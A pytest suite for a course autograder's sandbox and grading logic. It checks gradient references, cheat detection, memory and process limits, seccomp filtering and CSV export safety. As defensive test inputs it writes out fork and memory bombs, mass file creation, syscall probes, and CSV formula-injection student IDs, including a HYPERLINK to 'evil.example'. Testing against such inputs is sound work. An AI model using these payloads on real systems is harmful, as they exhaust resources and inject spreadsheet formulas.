"""The grading machinery without nbgrader: references, tolerances, messages, the wire, the sandbox.

``test_course.py`` runs the whole course through the nbgrader CLI; these tests pin down the
pieces it relies on, in seconds.
"""

from __future__ import annotations

import math
import os
import re
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest

from torchlight_grader import sandbox
from torchlight_grader.checks import registry
from torchlight_grader.checks.grader import Cell, grade, rng_for
from torchlight_grader.sandbox import Limits
from torchlight_grader.sandbox.inside import wire

ROOT = Path(__file__).resolve().parents[1]
NOTEBOOKS = (
    "a1_functions",
    "a1b_engine",
    "a2_broadcasting",
    "a2b_strided",
    "a2c_kernels",
    "a3_networks",
    "a4_convolutions",
    "a5_attention",
    "a6_tokens",
    "a7_gpt",
    "a8_inference",
)
SETUP = Cell(
    "locked",
    "setup",
    "import math\nimport numpy as np\nimport torchlight as tl\n"
    "from torchlight.autograd import Function\n",
)


def a1(cells: list[tuple[str, str]], tests: list[str], seed: int = 0) -> dict:
    """Grade answer cells ``(grade_id, source)`` of assignment 1 in the sandbox."""
    answers = [Cell("answer", grade_id, source) for grade_id, source in cells]
    return grade(
        "a1_functions", [SETUP, *answers], tests, seed=seed, limits=Limits(cell_timeout=10)
    )


def unary(name: str, forward: str, backward: str, save: str = "x") -> str:
    return f"""
class {name}(Function):
    @staticmethod
    def forward(ctx, x):
        out = {forward}
        ctx.save_for_backward({save})
        return out

    @staticmethod
    def backward(ctx, grad_output):
        ({save},) = ctx.saved_tensors
        return {backward}
"""


@pytest.mark.parametrize("notebook", NOTEBOOKS)
def test_every_reference_agrees_with_central_differences(notebook: str) -> None:
    """``expected`` raises GraderError if a reference gradient disagrees with the library's
    central_difference: exercise every check on several seeds."""
    for grade_id, check in registry.checks_for(notebook).items():
        if grade_id == "test_train_digits":
            continue  # no gradient; loading the digits once is enough (test_train_toy covers it)
        for seed in range(4):
            for case in check.cases(rng_for(seed, notebook, grade_id)):
                check.expected(case)


def test_correct_alternative_formulas_pass_the_tight_tolerance() -> None:
    """Algebraically equal ways to write a derivative differ by a few ulp, far inside 1e-12."""
    cells = [
        ("exp", unary("Exp", 'x._map("exp")', "grad_output * x.exp()")),
        ("log", unary("Log", 'x._map("log")', 'grad_output * x._map("reciprocal")')),
        ("sigmoid", unary("Sigmoid", 'x._map("sigmoid")', "grad_output * (-x).exp() / (1 + (-x).exp()) ** 2")),
        ("tanh", unary("Tanh", 'x._map("tanh")', "grad_output * 4 / (x.exp() + (-x).exp()) ** 2")),
        ("relu", unary("ReLU", "x.relu()", "grad_output * (x.sign() + 1) / 2")),
    ]  # fmt: skip
    for seed in range(3):
        verdicts = a1(
            cells, ["test_exp", "test_log", "test_sigmoid", "test_tanh", "test_relu"], seed
        )
        assert all(v.passed for v in verdicts.values()), {k: v.message for k, v in verdicts.items()}


@pytest.mark.parametrize("step", [1e-3, 1e-4, 1e-5, 1e-6, 1e-7])
def test_finite_difference_backwards_fail_at_every_step_size(step: float) -> None:
    fd = f"grad_output * ((x + {step})._map('{{op}}') - (x - {step})._map('{{op}}')) / (2 * {step})"
    cells = [
        ("exp", unary("Exp", 'x._map("exp")', fd.format(op="exp"))),
        ("sigmoid", unary("Sigmoid", 'x._map("sigmoid")', fd.format(op="sigmoid"))),
        ("tanh", unary("Tanh", 'x._map("tanh")', fd.format(op="tanh"))),
    ]
    verdicts = a1(cells, ["test_exp", "test_sigmoid", "test_tanh"])
    assert not any(v.passed for v in verdicts.values())
    assert all("numerically estimated" in v.message for v in verdicts.values()), verdicts


LIBRARY_TANH = """
class Tanh(Function):
    @staticmethod
    def forward(ctx, x):
        ctx.save_for_backward(x)
        return x._map("tanh")

    @staticmethod
    def backward(ctx, grad_output):
        (x,) = ctx.saved_tensors
        with tl.enable_grad():
            leaf = x.detach().requires_grad_()
            leaf.tanh().backward(grad_output)
        return leaf.grad
"""
LIBRARY_MUL = """
import importlib
import torchlight.ops
importlib.reload(torchlight.ops.arithmetic)  # the module's file is the grader's copy too


class Mul(Function):
    @staticmethod
    def forward(ctx, a, b):
        ctx.save_for_backward(a, b)
        return a._zip("mul", b)

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx.saved_tensors
        with tl.enable_grad():
            a, b = a.detach().requires_grad_(), b.detach().requires_grad_()
            (a * b).backward(grad_output)
        return a.grad, b.grad
"""
PYTORCH_LOG = """
class Log(Function):
    @staticmethod
    def forward(ctx, x):
        ctx.save_for_backward(x)
        return x._map("log")

    @staticmethod
    def backward(ctx, grad_output):
        import torch  # real PyTorch, when the environment has it

        (x,) = ctx.saved_tensors
        leaf = torch.tensor(x.numpy(), requires_grad=True)
        leaf.log().backward(torch.tensor(grad_output.numpy()))
        return tl.tensor(leaf.grad.numpy())
"""


def test_the_graded_ops_own_backward_is_not_reachable_from_graded_code() -> None:
    """Issue 24 item 4: the hidden checks run against a grader-built torchlight without the
    graded ops' backward (and without real PyTorch); honest answers are unaffected."""
    verdicts = a1(
        [("tanh", LIBRARY_TANH), ("mul", LIBRARY_MUL), ("log", PYTORCH_LOG),
         ("exp", unary("Exp", 'x._map("exp")', "grad_output * x.exp()"))],
        ["test_tanh", "test_mul", "test_log", "test_exp"],
    )  # fmt: skip
    for item in ("test_tanh", "test_mul"):
        assert not verdicts[item].passed, verdicts[item].message
        assert "write it yourself" in verdicts[item].message, verdicts[item].message
    assert not verdicts["test_log"].passed and "torch" in verdicts["test_log"].message
    assert verdicts["test_exp"].passed, verdicts["test_exp"].message
    # outside the hidden checks the library is whole: the same answers pass in a plain process
    namespace: dict = {}
    exec(SETUP.source + LIBRARY_TANH + LIBRARY_MUL, namespace)
    import torchlight as tl

    x = tl.tensor([0.5, -1.0], requires_grad=True)
    namespace["Tanh"].apply(x).sum().backward()
    assert np.allclose(x.grad.numpy(), 1 - np.tanh([0.5, -1.0]) ** 2)


def test_every_graded_function_exists_and_no_solution_is_flagged() -> None:
    """The grader-built library's table names Functions torchlight defines (found by class name,
    wherever the library keeps them), and the structure check flags none of the solutions."""
    from torchlight_grader.checks.graded_library import GRADED, GRADED_FUNCTIONS, library_functions
    from torchlight_grader.checks.structure import library_autograd

    functions = library_functions()
    assert set(GRADED) | set(GRADED_FUNCTIONS) == set(NOTEBOOKS)
    missing = {nb: [n for n in names if n not in functions] for nb, names in GRADED.items()}
    assert not any(missing.values()), missing
    for notebook in NOTEBOOKS:
        source = (ROOT / "assignments" / "source" / notebook / f"{notebook}.py").read_text()
        assert library_autograd([source], registry.autograd_backwards(notebook)) == [], notebook
        assert registry.findings(notebook, answer_cells(source)) == [], notebook


def answer_cells(script: str) -> list[str]:
    """The answer cells of a jupytext source (what the grader scans of a submission)."""
    cells = re.split(r"^# %%", script, flags=re.M)
    return [c.split("\n", 1)[1] for c in cells if '"solution": true' in c.split("\n", 1)[0]]


def test_the_engine_notebooks_library_has_no_engine() -> None:
    """a1b: in the grader-built library the engine's functions raise "write it yourself" (so do
    Tensor.backward and autograd.grad, which call them); the Functions keep their backward."""
    from torchlight_grader.checks.graded_library import for_notebook

    ((copy, _target),) = for_notebook("a1b_engine")
    probe = (
        "import torchlight as tl\n"
        "from torchlight.autograd import backpropagate, central_difference, topological_sort\n"
        "x = tl.tensor([1.0, 2.0], requires_grad=True)\n"
        "y = (x * x).sum()\n"
        "for call in (lambda: topological_sort(y), lambda: backpropagate(y), y.backward,\n"
        "             lambda: tl.autograd.grad(y, x), lambda: central_difference(abs, 1.0)):\n"
        "    try:\n"
        "        call()\n"
        "    except RuntimeError as exc:\n"
        "        print(str(exc).split(' is what')[0])\n"
        "print([g.tolist() for _, g in y.history.chain_rule(tl.tensor(1.0))])\n"
    )
    run = subprocess.run([sys.executable, "-c", probe], cwd=Path(copy).parent, capture_output=True,
                         text=True, check=True)  # fmt: skip
    assert run.stdout.splitlines() == [
        "write it yourself: topological_sort",
        "write it yourself: backpropagate",
        "write it yourself: backpropagate",
        "write it yourself: grad",
        "write it yourself: central_difference",
        "[[1.0, 1.0]]",
    ], run.stdout + run.stderr


def test_the_strided_notebooks_library_has_no_index_arithmetic() -> None:
    """a2b: in the grader-built library torchlight.shape's four functions and the strided
    backend's map/zip/reduce raise "write it yourself"; the numpy backend still works."""
    from torchlight_grader.checks.graded_library import for_notebook

    ((copy, _target),) = for_notebook("a2b_strided")
    probe = (
        "import torchlight as tl, torchlight.shape as S\n"
        "from torchlight.backends.strided.backend import StridedBackend\n"
        "a = tl.tensor([[1.0, 2.0]], backend='strided').storage\n"
        "for call in (lambda: S.to_index(1, (2,)), lambda: S.index_to_position([1], (1,)),\n"
        "             lambda: S.broadcast_index([1], (2,), (1,)), lambda: S.broadcast_shape((1,), (2,)),\n"
        "             lambda: StridedBackend().map('neg', a), lambda: StridedBackend().zip('add', a, a),\n"
        "             lambda: StridedBackend().reduce('sum', a, (0,), False)):\n"
        "    try:\n"
        "        call()\n"
        "    except RuntimeError as exc:\n"
        "        print(str(exc).split(' is what')[0])\n"
        "print((tl.tensor([1.0, 2.0]) * 2).tolist())\n"
    )
    run = subprocess.run([sys.executable, "-c", probe], cwd=Path(copy).parent, capture_output=True,
                         text=True, check=True)  # fmt: skip
    names = ["to_index", "index_to_position", "broadcast_index", "broadcast_shape"]
    names += [f"StridedBackend.{m}" for m in ("map", "zip", "reduce")]
    assert run.stdout.splitlines() == [f"write it yourself: {n}" for n in names] + ["[2.0, 4.0]"], (
        run.stdout + run.stderr
    )


def test_the_strided_findings_name_the_librarys_and_numpys_index_arithmetic() -> None:
    from torchlight_grader.checks.a2b_strided import library_strided

    for source in (
        "from torchlight.shape import to_index",
        "torchlight.shape.broadcast_index(i, s, t)",
        "np.unravel_index(k, shape)",
        "np.lib.stride_tricks.as_strided(x, s, t)",
        "from torchlight.backends.strided.backend import StridedBackend",
        "getattr(backend, 'map')",
    ):
        assert len(library_strided([source])) == 1, source
    honest = "def to_index(ordinal, shape):\n    return [ordinal % shape[0]]\nto_index(1, (2,))\n"
    assert library_strided([honest]) == []


def test_the_engine_findings_name_each_way_to_the_library() -> None:
    """a1b's structure check flags the library's engine by any name it can see, and nothing an
    honest engine writes (chain_rule, accumulate_grad, its own names, p.grad in a step)."""
    from torchlight_grader.checks.a1b_engine import library_engine

    flagged = {
        "from torchlight.autograd import backpropagate as b": "imports backpropagate",
        "from torchlight.autograd.engine import *": "imports *",
        "import torchlight.autograd.gradcheck as g": "imports torchlight.autograd.gradcheck",
        "tl.autograd.topological_sort(y)": "uses .topological_sort",
        "loss.backward()": "calls .backward()",
        "tl.autograd.grad(y, x)": "uses autograd.grad",
        "getattr(tl.autograd, 'backpropagate')(y)": "names 'backpropagate' through getattr",
        "importlib.import_module('torchlight.autograd.engine')": "through import_module",
    }
    for source, words in flagged.items():
        lines = library_engine([source])
        assert len(lines) == 1 and words in lines[0], (source, lines)
    honest = (
        "def backpropagate(root, deriv):\n"
        "    for parent, share in root.history.chain_rule(deriv):\n"
        "        parent.accumulate_grad(share)\n"
        "for p in model.parameters():\n"
        "    p.data -= 0.1 * p.grad\n"
        "backpropagate(loss, tl.ones(()))\n"
    )
    assert library_engine([honest]) == []


KILLED_GRADER = """
import sys
from pathlib import Path
sys.path.insert(0, sys.argv[1])
from test_course_grading import a1, unary
from torchlight_grader.checks import graded_library
copy = Path(graded_library.for_notebook("a1_functions")[0][0]).parent
verdict = "not graded"
if sys.argv[2] == "grade":
    honest = unary("Exp", 'x._map("exp")', "grad_output * x.exp()")
    verdict = a1([("exp", honest)], ["test_exp"])["test_exp"]
print(copy, verdict, flush=True)
sys.stdin.read()  # until told to go: then it exits as a grader does
"""


def test_a_killed_graders_library_copies_are_removed_by_the_next_one() -> None:
    """Issue 24: a grading process killed with SIGKILL leaves its grader-built library copy in
    /tmp (no exit handler runs); the next grading process removes it, leaves a live grader's
    alone, grades an honest answer as usual, and removes its own copy when it exits."""
    import signal

    def start(grade: bool = False) -> tuple[subprocess.Popen, Path, str]:
        proc = subprocess.Popen(
            [sys.executable, "-c", KILLED_GRADER, str(ROOT / "tests"), "grade" if grade else ""],
            cwd=ROOT, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
            text=True,
        )  # fmt: skip
        assert proc.stdout and proc.stderr and proc.stdin
        line = proc.stdout.readline().split(maxsplit=1)
        assert len(line) == 2, (line, proc.stderr.read())
        return proc, Path(line[0]), line[1]

    killed, killed_copy, _ = start()
    live, live_copy, _ = start()  # a grader still at work: its copy must stay
    try:
        os.kill(killed.pid, signal.SIGKILL)
        killed.wait()
        assert (killed_copy / "torchlight").is_dir(), "the killed grader built nothing to leak"
        after, after_copy, verdict = start(grade=True)
        after.communicate("")
        assert not killed_copy.exists(), f"{killed_copy} leaked past the next grader"
        assert (live_copy / "torchlight").is_dir(), "a live grader's copy was removed"
        assert not after_copy.exists(), "a grader that exits leaves its copy"
        assert verdict.startswith("Verdict(passed=True"), verdict
    finally:
        live.communicate("")
        killed.kill()
    assert not live_copy.exists()


def test_student_code_cannot_write_a_frame_the_grader_reads() -> None:
    """Issue 24 item 7: a thread the last cell left running in the process that receives the
    items forges Tanh's result and status into every pipe and socket it has; the slow, wrong
    Tanh still scores zero, and the honest Exp beside it is graded as usual."""
    from submissions.attacks import FORGE_FRAMES, SLOW_WRONG_TANH

    verdicts = a1(
        [("exp", unary("Exp", 'x._map("exp")', "grad_output * x.exp()")),
         ("tanh", SLOW_WRONG_TANH), ("expression", FORGE_FRAMES)],
        ["test_tanh", "test_exp"],
    )  # fmt: skip
    assert not verdicts["test_tanh"].passed, verdicts["test_tanh"].message
    assert verdicts["test_exp"].passed, verdicts["test_exp"].message


HOGS = """
import os, select

_ready_r, _ready_w = os.pipe()
_go_r, _go_w = os.pipe()
_pids = []
for _ in range(3):  # three processes of 300 MiB each, every one far below its RLIMIT_AS
    _pid = os.fork()
    if _pid == 0:
        os.close(_go_w)
        _block = bytearray(300 * 1024**2)  # zero-filled: every page touched
        os.write(_ready_w, b"+")
        os.close(_ready_w)  # the parent reads EOF once every child has written or was killed
        os.read(_go_r, 1)  # all three hold their memory at once
        os._exit(0)
    _pids.append(_pid)
os.close(_ready_w)
_ready = b""
while len(_ready) < 3 and select.select([_ready_r], [], [], 15)[0]:
    _chunk = os.read(_ready_r, 3)
    if not _chunk:
        break  # every child has ended
    _ready += _chunk
os.close(_go_w)
_killed = [os.waitpid(p, 0)[1] for p in _pids]
assert not any(_killed), f"a process was killed: {_killed}"
""" + unary("Exp", 'x._map("exp")', "grad_output * x.exp()")


def test_all_sandboxes_together_stay_inside_one_memory_cgroup() -> None:
    """Issue 24 item 3, with a real allocation: 900 MiB in three processes, each far below its
    RLIMIT_AS, is killed under a 512 MiB cgroup (it passes under the default 8 GiB: measured,
    not repeated here). This host allows cgroups: the test fails where it does not, see the
    next test for the fallback."""
    procs, why = sandbox.memory_cgroup(512 * 1024**2)
    assert procs is not None, f"this host allows no memory cgroup here: {why}"
    verdicts = grade(
        "a1_functions",
        [SETUP, Cell("answer", "exp", HOGS)],
        ["test_exp"],
        seed=0,
        limits=Limits(cell_timeout=20, total_memory=512 * 1024**2),
    )
    message = verdicts["test_exp"].message
    assert not verdicts["test_exp"].passed and "a process was killed: [" in message, message


INODES = """
import os
for _n in range(3_000_000):  # empty files: 0 bytes of tmpfs, ~1 KiB of kernel memory each
    open(f"/tmp/f{_n}", "w").close()
""" + unary("Exp", 'x._map("exp")', "grad_output * x.exp()")


def test_what_a_sandbox_makes_the_kernel_hold_counts_against_its_own_bound() -> None:
    """Issue 39 item 6: 1.2 million empty files used 4 KiB of tmpfs and 1.2 GiB of kernel
    memory, past the stated bound. Each sandbox now has a memory cgroup of its own (inodes are
    charged to it): under a 256 MiB bound the cell is killed, and the next student, graded in
    the same process, gets full marks."""
    procs, why = sandbox.memory_cgroup(Limits().total_memory)
    assert procs is not None, f"this host allows no memory cgroup here: {why}"
    limits = Limits(cell_timeout=60, budget=120, sandbox_memory=256 * 1024**2)
    verdicts = grade("a1_functions", [SETUP, Cell("answer", "exp", INODES)], ["test_exp"],
                     seed=0, limits=limits)  # fmt: skip
    message = verdicts["test_exp"].message
    killed = ("ended the Python process", "the grading sandbox stopped")  # the cell or all of it
    assert not verdicts["test_exp"].passed and any(k in message for k in killed), message
    honest = unary("Exp", 'x._map("exp")', "grad_output * x.exp()")
    after = grade("a1_functions", [SETUP, Cell("answer", "exp", honest)], ["test_exp"], seed=0,
                  limits=limits)  # fmt: skip
    assert after["test_exp"].passed, after["test_exp"].message


def test_without_a_memory_cgroup_the_grader_says_so(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(sandbox.limits, "_CGROUP_ROOT", "/nonexistent-cgroup-root")
    limits = Limits(total_memory=123 * 1024**2 + 1)  # a limit no other test asked for
    procs, why = sandbox.memory_cgroup(limits.total_memory)
    assert procs is None and "cannot create a memory cgroup" in why, why
    sandbox.limits.join_cgroup(limits, None)
    err = capsys.readouterr().err
    assert "no memory cgroup" in err and "systemd-run --scope -p MemoryMax" in err, err


def test_failure_message_names_input_index_expected_and_received() -> None:
    mul = """
class Mul(Function):
    @staticmethod
    def forward(ctx, a, b):
        ctx.save_for_backward(a, b)
        return a * b

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx.saved_tensors
        return grad_output * b, -grad_output * a
"""
    message = a1([("mul", mul)], ["test_mul"])["test_mul"].message
    assert "for input b" in message and "at index (0, 0)" in message, message
    assert "expected" in message and "but got" in message and "central difference" in message


def test_cells_run_in_order_with_shared_state_and_a_hung_cell_is_skipped() -> None:
    cells = [
        ("mul", "import math as m2\nwhile True:\n    pass"),
        (
            "exp",
            "HALF = 0.5\n" + unary("Exp", 'x._map("exp")', "grad_output * (2 * HALF) * x.exp()"),
        ),
        ("log", unary("Log", 'x._map("log")', "grad_output / x * m2.cos(0)")),
        ("div", "import os\nos._exit(3)"),
    ]
    verdicts = grade(
        "a1_functions",
        [SETUP, *(Cell("answer", g, s) for g, s in cells)],
        ["test_mul", "test_exp", "test_log", "test_div"],
        seed=0,
        limits=Limits(cell_timeout=2),
    )
    assert "ended the Python process" in verdicts["test_div"].message
    assert "still running after 2 s" in verdicts["test_mul"].message
    assert verdicts["test_exp"].passed, verdicts["test_exp"].message
    # the hung cell's import is lost with it: a later cell that needs it fails, and says why
    assert not verdicts["test_log"].passed and "m2" in verdicts["test_log"].message


def test_unregistered_test_cells_fail_closed() -> None:
    verdicts = grade("a1_functions", [SETUP], ["test_not_there"], seed=0)
    assert not verdicts["test_not_there"].passed


def test_wire_round_trips_exactly() -> None:
    values = np.array([[0.1, -2.5e-300], [math.inf, math.nan]])
    back = wire.loads(wire.dumps({"x": values, "t": (1, "a", None)}))
    np.testing.assert_array_equal(back["x"], values)
    assert back["t"] == (1, "a", None)


@pytest.mark.parametrize(
    "raw",
    [
        '{"__array__": "<f8", "shape": [1000000000000], "data": [1.0]}',
        '{"__array__": "<f8", "shape": [2], "data": [1.0, "2"]}',
        '{"__array__": "|O", "shape": [1], "data": [1]}',
        '{"__array__": "<f8", "shape": [-1], "data": []}',
        "[" * 50 + "]" * 50,
        "not json",
    ],
)
def test_wire_rejects_malformed_results(raw: str) -> None:
    with pytest.raises(wire.WireError):
        wire.loads(raw)


def test_one_time_budget_per_notebook_however_many_cells() -> None:
    """Six cells of 2 s each next to a correct answer: the notebook stops at its 5 s budget,
    and the checks it never reached say so."""
    import time

    exp = unary("Exp", 'x._map("exp")', "grad_output * out", save="out")
    cells = [("exp", exp)] + [("mul", "import time\ntime.sleep(2)")] * 6
    start = time.monotonic()
    verdicts = grade(
        "a1_functions",
        [SETUP, *(Cell("answer", g, s) for g, s in cells)],
        ["test_exp", "test_mul"],
        seed=0,
        limits=Limits(cell_timeout=4, budget=5),
    )
    assert time.monotonic() - start < 9  # the budget, plus starting and ending the sandbox
    assert not verdicts["test_exp"].passed
    assert "time budget of 5 s ran out" in verdicts["test_exp"].message


def test_the_sandbox_sees_no_course_no_grader_and_runs_as_nobody(tmp_path: Path) -> None:
    """From inside: an unprivileged uid without capabilities (65534 in a user namespace of its
    own for an unprivileged grader; as root, a kernel uid of its own), its own PID and network
    namespaces, a read-only environment, and neither the grader nor this directory in sight."""
    uids = sandbox.bwrap.ROOT_UIDS if os.geteuid() == 0 else range(65534, 65535)
    probe = f"""
import os, socket, sys
assert os.getuid() in {uids!r} and os.getgid() == os.getuid(), os.getuid()
caps = [l for l in open("/proc/self/status") if l.startswith("CapEff")][0]
assert int(caps.split()[1], 16) == 0, caps
assert os.getpid() < 10, os.getpid()
assert not os.path.exists({str(tmp_path)!r})
assert not os.path.exists({str(ROOT / "torchlight_grader")!r})
assert not os.path.exists({str(ROOT / "assignments")!r})
try:
    import torchlight_grader
except ImportError:
    pass
else:
    raise AssertionError("the grader is importable")
for path in (sys.prefix, os.path.dirname(os.__file__)):
    try:
        open(os.path.join(path, "x.pth"), "w")
    except OSError:
        pass
    else:
        raise AssertionError(path + " is writable")
try:
    socket.create_connection(("1.1.1.1", 53), timeout=1)
except OSError:
    pass
else:
    raise AssertionError("network")
open("/sandbox/scratch", "w").write("the private work dir is writable")
print("contained")
"""
    (tmp_path / "secret").write_text("grades")
    argv = [sys.executable, "-I", "-B", "-c", probe]
    proc = subprocess.run(
        sandbox.command(argv, Limits(), forbidden=[str(tmp_path)]),
        capture_output=True,
        text=True,
        env=sandbox.clean_env(sandbox.WORK),
        timeout=60,
        check=False,
    )
    assert proc.returncode == 0 and "contained" in proc.stdout, proc.stderr[-2000:]


def test_grading_fails_closed_without_bubblewrap(monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(sandbox.SandboxUnavailableError, match="install bubblewrap"):
        sandbox.bwrap._trusted_binary("/nonexistent/bwrap")
    monkeypatch.setenv(sandbox.OPT_OUT, "yes")
    with pytest.raises(sandbox.SandboxUnavailableError, match=sandbox.OPT_OUT_VALUE):
        sandbox.opted_out()
    monkeypatch.setenv(sandbox.OPT_OUT, sandbox.OPT_OUT_VALUE)
    assert sandbox.opted_out()


@pytest.mark.skipif(os.geteuid() != 0, reason="the root deployment's own uids")
def test_each_sandbox_has_its_own_uid_so_one_cannot_use_up_anothers_processes() -> None:
    """Issue 39 item 3: as root every sandbox was uid 65534, so one student's processes filled
    the per-uid process limit and a classmate's checks could not fork. Sandbox A holds as many
    processes as its limit allows while sandbox B, with the same limit, forks 9."""
    hold = """
import os, resource, sys, time
resource.setrlimit(resource.RLIMIT_NPROC, (48, 48))
children = []
try:
    while True:
        pid = os.fork()
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        children.append(pid)
except OSError:
    pass
print(os.getuid(), len(children), flush=True)
time.sleep(30)
"""
    fork = """
import os, resource
resource.setrlimit(resource.RLIMIT_NPROC, (48, 48))
for _ in range(9):
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
print(os.getuid(), "forked 9")
"""
    env = sandbox.clean_env(sandbox.WORK)
    run = [sys.executable, "-I", "-B", "-c"]
    a = subprocess.Popen(sandbox.command([*run, hold], Limits()), stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, text=True, env=env)  # fmt: skip
    try:
        assert a.stdout is not None
        uid_a, held = a.stdout.readline().split()
        assert int(held) >= 40, f"sandbox A held only {held} processes"
        b = subprocess.run(sandbox.command([*run, fork], Limits()), capture_output=True,
                           text=True, env=env, timeout=60, check=False)  # fmt: skip
        assert b.returncode == 0 and "forked 9" in b.stdout, b.stderr[-1500:]
        assert b.stdout.split()[0] != uid_a, "both sandboxes ran as one uid"
    finally:
        a.kill()
        a.wait()


def test_the_seccomp_filter_is_an_allowlist_and_grading_still_runs() -> None:
    """Issue 39 item 3: the kernel keyring was a channel between two sandboxes because the old
    filter listed four calls to deny. Now only the calls grading needs are allowed: the keyring
    calls, ptrace, unshare and io_uring are "not on this system" (ENOSYS), clone with a new
    namespace is refused (EPERM), and numpy, threads and subprocesses still work."""
    import os

    from torchlight_grader.sandbox import seccomp

    probe = """
import ctypes, errno, subprocess, sys, threading
import numpy
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(nr, *args):
    return ctypes.get_errno() if libc.syscall(nr, *args) == -1 else 0
found = {
    "add_key": call(248, b"user", b"shared", b"secret", 6, -3),  # into the session keyring
    "keyctl": call(250, 0, -3, 0),  # KEYCTL_GET_KEYRING_ID of @s
    "request_key": call(249, b"user", b"shared", None, -3),
    "ptrace": call(101, 16, 1, 0, 0),
    "unshare": call(272, 0x10000000),
    "io_uring_setup": call(425, 8, None),
    "clone(CLONE_NEWUSER)": call(56, 0x10000000 | 17, 0, 0, 0, 0),
}
want = {name: errno.ENOSYS for name in found}
want["clone(CLONE_NEWUSER)"] = errno.EPERM
assert found == want, found
assert numpy.allclose(numpy.linalg.inv(numpy.eye(3) * 2), numpy.eye(3) / 2)
threading.Thread(target=print).start()
assert subprocess.run([sys.executable, "-c", "print(6 * 7)"], capture_output=True).stdout == b"42\\n"
print("filtered")
"""
    fd = seccomp.memfd()
    assert fd is not None, "x86-64 has a filter"
    try:
        proc = subprocess.run(
            sandbox.command([sys.executable, "-I", "-B", "-c", probe], Limits(), seccomp_fd=fd),
            capture_output=True,
            text=True,
            env=sandbox.clean_env(sandbox.WORK),
            timeout=60,
            pass_fds=(fd,),
            check=False,
        )
    finally:
        os.close(fd)
    assert proc.returncode == 0 and "filtered" in proc.stdout, proc.stderr[-2000:]


def test_a_grader_installed_in_the_environment_is_masked(monkeypatch: pytest.MonkeyPatch) -> None:
    """Installed into site-packages next to torchlight, the grader's folder would be bound with
    the environment: the sandbox sees it empty."""
    import os

    base = os.path.realpath(sys.base_prefix)
    monkeypatch.setattr(sandbox.bwrap, "_python_paths", lambda: sorted({base, str(ROOT)}))
    grader = ROOT / "torchlight_grader"
    probe = f"import os; assert os.listdir({str(grader)!r}) == [], 'grader visible'; print('ok')"
    proc = subprocess.run(
        sandbox.command([sys.executable, "-I", "-B", "-c", probe], Limits()),
        capture_output=True,
        text=True,
        env=sandbox.clean_env(sandbox.WORK),
        timeout=60,
        check=False,
    )
    assert proc.returncode == 0 and "ok" in proc.stdout, proc.stderr[-2000:]


def test_answers_calling_the_librarys_own_a5_functions_are_flagged() -> None:
    """a5 asks for ops the library has: an answer calling them is flagged for review, while no
    solution cell of any assignment is (a7, a8 and the capstone build on those ops by design:
    not scanned)."""
    import jupytext

    from torchlight_grader.nbgrader.plugins import BUILDS_ON_THE_LIBRARY, BUILT_IN

    for source in (
        "return F.scaled_dot_product_attention(q, k, v, is_causal=causal)",
        "return tl.nn.functional.layer_norm(x, x.shape[-1], weight, bias, eps)",
        "s = x.softmax(-1)",
        "from torchlight.nn.recurrent import LSTMCellFunction",
        "return SoftmaxFunction.apply(x, -1)",
    ):
        assert BUILT_IN.search(source), source
    for script in sorted((ROOT / "assignments" / "source").glob("*/*.py")):
        if script.stem in BUILDS_ON_THE_LIBRARY:
            continue
        for cell in jupytext.read(script).cells:
            assert not BUILT_IN.search(cell.source), (script.name, cell.source[:80])


#: Student ids a student can choose (``nbgrader collect`` takes them from folder names).
FORMULA_IDS = ('=HYPERLINK("evil.example?x","x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx")


def test_exports_are_safe_mid_term_and_carry_no_formulas(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The three exports from a real gradebook: only graded assignments reach canvas.csv, a
    missing submission is blank there (Canvas: no change), a submission deleted from
    ``submitted/`` loses its grade everywhere, a mapped assignment carries its
    Canvas id, students without a Canvas ID are named in a warning, and no cell of any export
    starts with ``= + - @``, tab or CR (OWASP's CSV-injection rule)."""
    import csv
    import logging

    from nbgrader.api import Gradebook

    from torchlight_grader.nbgrader.exports import CourseExportPlugin

    # nbgrader's Gradebook creates its tables with the `alembic` command of this environment.
    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}:{os.environ['PATH']}")
    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}") as gb:
        for name in ("a1_functions", "a2_broadcasting"):  # a2 is not due yet: no submission
            gb.update_or_create_assignment(name)
            gb.add_notebook(name, name)
            gb.add_grade_cell("test_mul", name, name, max_score=2.0, cell_type="code")
        gb.add_student("alice", first_name="Alice", last_name="Archer", lms_user_id="1001")
        gb.add_student("erin", lms_user_id="1005")  # on the roster, hands nothing in
        for sid in ("walkin", *FORMULA_IDS):
            gb.add_student(sid)
        for sid in ("alice", "walkin", *FORMULA_IDS):
            gb.add_submission("a1_functions", sid)
            grade = gb.find_grade("test_mul", "a1_functions", "a1_functions", sid)
            grade.auto_score = 2.0
        gb.db.commit()

        # The course folder as nbgrader's export app holds it: every submission is still in
        # submitted/ except walkin's, deleted after grading (its grade must not be exported).
        from nbgrader.coursedir import CourseDirectory
        from traitlets.config import Configurable

        for sid in ("alice", *FORMULA_IDS):
            (tmp_path / "submitted" / sid / "a1_functions").mkdir(parents=True)

        class ExportApp(Configurable):
            coursedir = CourseDirectory(root=str(tmp_path))

        plugin = CourseExportPlugin(parent=ExportApp())
        plugin.to = str(tmp_path / "out")
        plugin.log.propagate = True
        canvas_columns = {"a1_functions": "Homework 1 (48213)"}
        from traitlets.config import Config

        config = Config()
        config.CanvasCsvExportPlugin.columns = canvas_columns
        plugin.update_config(config)
        with caplog.at_level(logging.WARNING):
            plugin.export(gb)

    tables = {}
    for name in ("grades.csv", "items.csv", "canvas.csv"):
        with open(tmp_path / "out" / name, newline="", encoding="utf-8") as f:
            tables[name] = list(csv.reader(f))
        unsafe = [
            c for row in tables[name] for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")
        ]
        assert unsafe == [], f"{name}: cells a spreadsheet would run as formulas: {unsafe}"
